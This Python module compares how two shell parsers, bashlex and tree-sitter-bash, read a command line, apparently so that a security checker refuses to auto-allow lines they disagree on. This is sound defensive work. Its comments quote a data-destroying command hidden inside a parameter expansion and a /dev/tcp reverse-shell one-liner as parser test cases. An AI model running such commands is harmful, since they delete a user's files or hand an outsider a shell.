"""Cross-check bashlex against a second, independent parser (tree-sitter-bash).

Both readings of a line are reduced to *shapes*: one per simple command, holding the
offset of its first word and the raw source text of each word. Where the sorted shapes
differ, one parser sees a command or an argument the other does not, and the line must
not be auto-allowed. Example: in ``echo ${x:-$(rm -rf ~)}`` only tree-sitter sees ``rm``.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any

import tree_sitter_bash
from tree_sitter import Language, Node, Parser

from security.shell import command_word_spans

CommandShape = tuple[int, tuple[str, ...]]
# (character offset where the command's first word starts, raw text of each word)
Span = tuple[int, int]  # [start, end) in UTF-8 bytes of the line

_PARSER = Parser(Language(tree_sitter_bash.language()))
_WIDE = re.compile(r"[^\x00-\xff]")  # see tame
# The most nodes of a tree-sitter tree that are read. Lines are at most 16,384
# characters (security/checks/text.py MAX_LINE_CHARS) and their trees hold at most
# about 2 nodes per character; past 8 per character, reading stops (and says so).
MAX_TREE_NODES = 8 * 16_384


class TreeTooLarge(Exception):
    """Reading tree-sitter's tree would take more work than any line analyzed needs."""


# Normalisation: bashlex reads `[` as an ordinary command, so `[ -f x ]` is the words
# `[`, `-f`, `x`, `]`; tree-sitter builds a test_command with an expression tree. These
# node types are one shell word each when met while flattening that tree.
_TEST_WORDS = frozenset(
    {
        "word",
        "string",
        "raw_string",
        "ansi_c_string",
        "translated_string",
        "number",
        "concatenation",
        "simple_expansion",
        "expansion",
        "command_substitution",
        "process_substitution",
        "arithmetic_expansion",
        "test_operator",
        "regex",
        "extglob_pattern",
    }
)


def bashlex_shapes(line: str, nodes: list[Any]) -> list[CommandShape]:
    """Shapes of every simple command in bashlex's trees ``nodes`` for ``line``."""
    return [
        (spans[0][0], tuple(line[start:end] for start, end in spans))
        for spans in command_word_spans(nodes)
        if spans
    ]


def treesitter_shapes(line: str) -> list[CommandShape] | None:
    """Shapes of every simple command tree-sitter finds; None if the tree has errors."""
    source = tame(line).encode("utf-8")
    root = _PARSER.parse(source).root_node
    if root.has_error:  # covers ERROR and MISSING nodes anywhere below
        return None
    to_char = char_index(line, source)
    shapes: list[CommandShape] = []
    strays: dict[int, list[Span]] = {}  # command node id -> words its redirects took
    stack = [root]
    left = MAX_TREE_NODES
    while stack:
        node = stack.pop()
        left -= 1
        if left < 0:
            raise TreeTooLarge(f"tree-sitter's tree has more than {MAX_TREE_NODES} nodes")
        if node.type == "redirected_statement":
            _claim_strays(node, source, strays)
        spans = [_span(word) for word in _command_words(node)] + strays.pop(node.id, [])
        if spans:
            chars = [(to_char(start), to_char(end)) for start, end in _merge_touching(spans)]
            shapes.append((chars[0][0], tuple(line[start:end] for start, end in chars)))
        stack.extend(node.children)
    return shapes


def _command_words(node: Node) -> list[Node]:
    """The nodes that make up the words of the simple command ``node``; [] if not one."""
    kind = node.type
    if kind == "command":
        # Normalisation: the `name` field wraps the first word in a command_name node
        # of the same extent; assignment prefixes and redirections have other fields.
        return [
            child
            for index, child in enumerate(node.children)
            if node.field_name_for_child(index) in ("name", "argument")
        ]
    if kind in ("declaration_command", "unset_command"):
        # Normalisation: `export X=1 Y`, `local`, `declare`, `readonly`, `unset` are
        # ordinary commands to bashlex, with the keyword and each operand as words.
        return [child for child in node.children if child.type != "comment"]
    if kind == "test_command" and node.children and node.children[0].type == "[":
        return list(_test_words(node))
    if kind == "test_command" and node.children and node.children[0].type == "[[":
        return list(_test_words(node))  # bashlex reads it rewritten as `[ ... ]`: see _span
    return []


def _test_words(node: Node) -> Iterator[Node]:
    r"""Flatten a `[ ... ]` expression tree into its words (see _TEST_WORDS), in order.

    Without recursion: `[ \( \( ... \) \) ]` may nest as deep as the line is long."""
    stack = list(reversed(node.children))
    while stack:
        child = stack.pop()
        if child.type in _TEST_WORDS or not child.is_named:
            yield child
        else:
            stack.extend(reversed(child.children))


def _span(node: Node) -> Span:
    # Normalisation: bashlex reads `[[ ... ]]` rewritten as `[ ... ]` of the same length
    # (security/cond_command.py), so its first and last words are the first `[` and the
    # last `]`.
    if node.type == "[[":
        return node.start_byte, node.start_byte + 1
    if node.type == "]]":
        return node.end_byte - 1, node.end_byte
    return node.start_byte, node.end_byte


def _merge_touching(spans: list[Span]) -> list[Span]:
    """The shell words that ``spans`` make up, in source order.

    Normalisation: tree-sitter sometimes splits one shell word into adjacent sibling
    nodes (`$"x"` becomes `$` and `"x"`; `x`ls`y` becomes `x` and `` `ls`y ``). Words
    are separated by blanks or operators, so spans that touch are one word.
    """
    words: list[Span] = []
    for start, end in sorted(spans):
        if words and words[-1][1] == start:
            words[-1] = (words[-1][0], end)
        else:
            words.append((start, end))
    return words


def _claim_strays(statement: Node, source: bytes, strays: dict[int, list[Span]]) -> None:
    """Give the words that redirections took back to the command they belong to.

    In bash, words after a redirection are arguments of the last simple command of
    the redirected statement (`a && b >f x` runs `b x`); ``strays`` collects them.
    """
    taken = [span for redirect in _redirects(statement) for span in _taken(redirect, source)]
    if taken:
        strays.setdefault(_last_command(statement).id, []).extend(taken)


def _redirects(statement: Node) -> Iterator[Node]:
    for redirect in statement.children_by_field_name("redirect"):
        yield redirect
        if redirect.type == "heredoc_redirect":  # `cat <<EOF >f` nests the `>f`
            yield from redirect.children_by_field_name("redirect")


def _taken(redirect: Node, source: bytes) -> list[Span]:
    """Spans of the command words that tree-sitter hung on (or lost near) ``redirect``."""
    taken = _lost_dash(redirect, source)
    if redirect.type == "file_redirect":
        taken += _extra_destinations(redirect, source)
    elif redirect.type == "heredoc_redirect":
        # Normalisation: words after the delimiter (`cat <<EOF -`) are `argument`s
        # of the heredoc redirect.
        taken += [_span(a) for a in redirect.children_by_field_name("argument")]
    return taken


def _extra_destinations(redirect: Node, source: bytes) -> list[Span]:
    """Normalisation: tree-sitter-bash lets a redirection take several destinations.

    In `grep 2>/dev/null -q x` it hangs `-q x` on the redirect (tree-sitter-bash issue
    #233); all but the first destination word are arguments. A number touching the
    next redirection is that one's descriptor: `bash -i >& /dev/tcp/h/1 0>&1`.
    """
    following = redirect.next_sibling
    fd_at = following.start_byte if following is not None else -1
    spans = _merge_touching([_span(d) for d in redirect.children_by_field_name("destination")])
    return [
        (start, end) for start, end in spans[1:] if end != fd_at or not source[start:end].isdigit()
    ]


def _lost_dash(redirect: Node, source: bytes) -> list[Span]:
    """Normalisation: tree-sitter-bash loses a lone `-` word just before some redirections.

    It does in `python3 - <<'EOF'` (a common idiom) and `cat >f - 2>&1`, and lexes
    `cat -<<EOF` as one `-<<` token. When the source between the previous node and
    the operator is one `-`, that is a word bash sees.
    """
    previous = redirect.prev_sibling
    if previous is None:
        return []
    operator_at = redirect.start_byte + source.startswith(b"-", redirect.start_byte)
    gap = source[previous.end_byte : operator_at]
    if gap.strip(b" \t") != b"-":
        return []
    dash = previous.end_byte + gap.index(b"-")
    return [(dash, dash + 1)]


def _last_command(statement: Node) -> Node:
    """The last simple command of a redirected statement's body, else the statement.

    The statement itself is visited next, so its strays still become a shape.
    """
    node = statement.child_by_field_name("body")
    while node is not None and node.type in ("pipeline", "list", "negated_command"):
        node = node.named_children[-1] if node.named_children else None
    return node if node is not None and _command_words(node) else statement


def tame(line: str) -> str:
    """``line`` with every character above U+00FF replaced by ``é``.

    tree-sitter-bash's scanner passes code points to <ctype.h> functions (`isdigit`
    after `{`, `isalpha` after `-`, `?` or a heredoc `$`), which index a 384-entry
    table: `{` followed by U+100000 reads far out of bounds and kills the process.
    Bash reads any non-ASCII character as a plain word character, and so does
    tree-sitter with `é`, so word boundaries and offsets (in characters) are kept.
    This also removes lone surrogates, which UTF-8 cannot encode.
    """
    return line if line.isascii() else _WIDE.sub("\u00e9", line)


def char_index(line: str, source: bytes) -> Callable[[int], int]:
    """Map tree-sitter's UTF-8 byte offsets in ``source`` to indexes into ``line``."""
    if len(source) == len(line):  # ASCII: bytes and characters coincide
        return int  # the identity on offsets
    table: list[int] = []
    for index, char in enumerate(line):
        table.extend([index] * (1 if char.isascii() else 2))  # all <= U+00FF by now
    table.append(len(line))
    return table.__getitem__


# Lines both parsers must read alike: plain words (single-quoted parts allowed, holding
# printable ASCII) between blanks and the operators | || && ; &. A command name starts
# with a letter, `_`, `.`, `/` or a quote and holds no `@ % + =` (tree-sitter-bash 0.25
# misreads `a@`, `a%`, `a+:`, `--x=y`, `- a%` there). No word may start with a digit
# unless it is a number (tree-sitter reads numbers specially), hold `=` unless it is a
# long option (`--format=x`), or be a reserved word or a declaration builtin.
# tests/unit/security/test_differential.py holds the two parsers to agreeing on such lines.
_PLAIN = "A-Za-z0-9_./,:@%+=\\-"
# single quotes around printable ASCII but a backquote (tree-sitter-bash 0.25 misreads
# `'\`''\`'`): literal to both
_QUOTED = r"'[\t -&(-_a-~]*'"
_PLAIN_TOKEN = re.compile(rf"[ \t|&;]+|(?:[{_PLAIN}]|{_QUOTED})+")
_PLAIN_CHARS = re.compile(rf"(?:[{_PLAIN} \t|&;]|{_QUOTED})*")
_NOT_IN_NAMES = re.compile(r"[@%+=]")
_NAME_START = re.compile(r"[A-Za-z_./']")
_NOT_PLAIN_WORDS = frozenset(
    {"if", "then", "else", "elif", "fi", "case", "esac", "for", "select", "while", "until"}
    | {"do", "done", "in", "function", "time", "coproc", "export", "local", "declare"}
    | {"readonly", "typeset", "unset"}
)


def plainly_agree(line: str) -> bool:
    """Whether ``line`` is too plain for the two parsers to read differently."""
    if _PLAIN_CHARS.fullmatch(line) is None:  # most lines that are not plain stop here
        return False
    at, command_position = 0, True
    while at < len(line):
        token = _PLAIN_TOKEN.match(line, at)
        if token is None:
            return False
        text = token.group()
        at = token.end()
        if text[0] in " \t|&;":
            command_position = command_position or any(op in text for op in "|&;")
            continue
        if (text[0].isdigit() and not text.isdigit()) or text in _NOT_PLAIN_WORDS:
            return False
        if command_position and (_NOT_IN_NAMES.search(text) or not _NAME_START.match(text)):
            return False
        if "=" in text and not text.startswith("--"):
            return False
        command_position = False
    return True


def disagreement(line: str, nodes: list[Any]) -> str | None:
    """Why bashlex (``nodes``) and tree-sitter read ``line`` differently; None if they agree.

    Never raises: a failure of the check itself is reported as a disagreement.
    """
    try:
        theirs = treesitter_shapes(line)
        if theirs is None:
            return "tree-sitter could not parse the line"
        return _compare(sorted(bashlex_shapes(line, nodes)), sorted(theirs))
    except TreeTooLarge as exc:
        return str(exc)
    except Exception as exc:  # fail closed
        return f"differential check failed: {type(exc).__name__}: {exc}"


def _compare(ours: list[CommandShape], theirs: list[CommandShape]) -> str | None:
    if ours == theirs:
        return None
    only_ts = [shape for shape in theirs if shape not in ours]
    only_bl = [shape for shape in ours if shape not in theirs]
    if only_ts:
        return f"tree-sitter sees a command {_show(only_ts[0])} that bashlex does not"
    if only_bl:
        return f"bashlex sees a command {_show(only_bl[0])} that tree-sitter does not"
    return "the parsers see the same commands a different number of times"


def _show(shape: CommandShape) -> str:
    start, words = shape
    text = " ".join(words).replace("`", "'")
    if len(text) > 60:
        text = text[:57] + "..."
    return f"`{text}` at {start}"
